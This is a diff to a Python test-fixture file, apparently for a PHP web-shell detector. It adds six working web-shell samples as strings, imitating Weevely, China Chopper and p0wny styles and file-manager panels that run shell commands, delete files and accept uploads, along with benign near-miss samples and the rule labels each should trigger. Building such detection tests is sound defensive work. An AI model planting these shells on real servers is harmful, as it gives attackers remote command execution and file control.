@@ -216,6 +216,22 @@ V["proc_open_cwd_json"] = (
 V["weevely_referer"] = (
     "<?php\n$r = @$_SERVER['HTTP_REFERER'];\n$u = parse_url($r);\nif (isset($u['query'])) {\n    parse_str($u['query'], $q);\n    if (isset($q['sid'])) {\n        $k = 'f00d';\n        $d = base64_decode($q['sid']);\n        $o = '';\n        for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % 4]; }\n        @eval(@gzuncompress($o));\n    }\n}\n"
 )
+V["weevely_char_array"] = (
+    "<?php\n$n = array('b', 'a', 's', 'e', '6', '4', '_', 'd', 'e', 'c', 'o', 'd', 'e');\n$m = array('c', 'r', 'e', 'a', 't', 'e', '_', 'f', 'u', 'n', 'c', 't', 'i', 'o', 'n');\n$d = implode('', $n); $c = implode('', $m);\n$z = $c('', $d('ZWNobyAiaGVsbG8iOw=='));\n$z();\n"
+)
+V["chopper_f4"] = "<?php $v = current($_GET); if ($v) eval($v); ?>\n"
+V["b64_param_names"] = (
+    "<?php\n$k = array_map('base64_decode', array_keys($_POST));\n$v = array_values($_POST);\n$req = array_combine($k, $v);\nif (isset($req['cmd'])) { echo shell_exec($req['cmd']); }\nif (isset($req['dir'])) { foreach (scandir($req['dir']) as $e) echo \"$e\\n\"; }\n"
+)
+V["pt_panel_glob_literal"] = (
+    "<?php\n$pasta = isset($_REQUEST['pasta']) ? $_REQUEST['pasta'] : '.';\n@chdir($pasta);\n$acao = isset($_REQUEST['acao']) ? $_REQUEST['acao'] : '';\nif ($acao == 'apagar') { @unlink($_REQUEST['alvo']); }\nif ($acao == 'renomear') { @rename($_REQUEST['alvo'], $_REQUEST['novo']); }\nif ($acao == 'enviar') { @move_uploaded_file($_FILES['arq']['tmp_name'], $_FILES['arq']['name']); }\nif ($acao == 'executar') { ob_start(); system($_REQUEST['comando']); $saida = ob_get_clean(); }\necho '<h2>Gerenciador</h2>';\nforeach (glob('*') as $item) { echo '<a href=\"?pasta=' . urlencode(getcwd() . '/' . $item) . '\">' . $item . '</a> <a href=\"?acao=apagar&alvo=' . urlencode($item) . '\">apagar</a><br>'; }\necho '<pre>' . (isset($saida) ? htmlspecialchars($saida) : '') . '</pre>';\necho '<form method=\"post\"><input type=\"hidden\" name=\"acao\" value=\"executar\">Comando: <input name=\"comando\"></form>';\n"
+)
+V["spl_manager"] = (
+    "<?php\n$root = isset($_GET['r']) ? $_GET['r'] : getcwd();\nif (isset($_POST['rm'])) { (new SplFileInfo($_POST['rm']))->isDir() ? rmdir($_POST['rm']) : unlink($_POST['rm']); }\nif (isset($_POST['from'], $_POST['to'])) { rename($_POST['from'], $_POST['to']); }\nif (isset($_FILES['u'])) { move_uploaded_file($_FILES['u']['tmp_name'], $root . '/' . $_FILES['u']['name']); }\nif (isset($_POST['c'])) { echo '<pre>' . htmlspecialchars((string) shell_exec($_POST['c'])) . '</pre>'; }\nforeach (new FilesystemIterator($root) as $fi) { echo '<a href=\"?r=' . urlencode($fi->getPathname()) . '\">' . $fi->getFilename() . '</a> ' . $fi->getSize() . '<br>'; }\n"
+)
+V["p0wny_b64_cwd"] = (
+    "<?php\nif (isset($_POST['cmd'])) {\n    if (!empty($_POST['cwd'])) { @chdir(base64_decode($_POST['cwd'])); }\n    $out = array();\n    exec(base64_decode($_POST['cmd']) . ' 2>&1', $out);\n    echo json_encode(array('stdout' => $out, 'cwd' => base64_encode(getcwd())));\n    exit;\n}\n?><html><body><div id=\"shell\"></div></body></html>\n"
+)
 
 NEAR: list[tuple[str, str]] = [
     (
@@ -302,6 +318,14 @@ NEAR: list[tuple[str, str]] = [
         "SPAMGEAR_UI_CommandVarConsole",
         "<?php\nfunction edit_entry( $entry_data = null ) {\n\tif ( empty( $entry_data ) ) {\n\t\t$entry_data = $_POST;\n\t}\n\n\t// Pass through errors.\n\treturn $entry_data;\n}\n\n/**\n * Updates an existing entry with values provided in `$_POST` (see `$entry_data`).\n * Runs `git status 2>&1` only in the documentation example.\n */\nfunction entry_owner() { return get_current_user(); }\n",
     ),
+    (
+        "SPAMGEAR_FAMILY_ChinaChopper",
+        "<?php\n// first posted value is shown back; field names are trimmed\n$first = reset($_POST);\necho htmlspecialchars($first);\n$names = array_map('trim', array_keys($_POST));\n",
+    ),
+    (
+        "SPAMGEAR_FAMILY_Weevely",
+        "<?php\n// builds a CSS class list from letters and renders a label through configurable callables\n$letters = array('a', 'b', 'c', 'd', 'e', 'f');\n$cls = implode('', $letters);\n$label = $render('', $translate('WelcomeBackUser'));\n$after();\n",
+    ),
 ]
 
 _EXPECT: list[tuple[str, str]] = [
@@ -366,6 +390,12 @@ _EXPECT: list[tuple[str, str]] = [
     ("pure_fm_editor", "SPAMGEAR_UI_SelfNavFileManager"),
     ("proc_open_cwd_json", "SPAMGEAR_INPUT_ShellOfInput"),
     ("weevely_referer", "SPAMGEAR_OBFUSC_EvalDecoder"),
+    ("weevely_char_array", "SPAMGEAR_FAMILY_Weevely"),
+    ("chopper_f4", "SPAMGEAR_FAMILY_ChinaChopper"),
+    ("b64_param_names", "SPAMGEAR_FAMILY_ChinaChopper"),
+    ("pt_panel_glob_literal", "SPAMGEAR_SHELLUI_UploadToClientName"),
+    ("spl_manager", "SPAMGEAR_INPUT_ShellOfInput"),
+    ("p0wny_b64_cwd", "SPAMGEAR_INPUT_ShellOfInput"),
 ]
 
 CASES: list[tuple[str, bytes, bool]] = []
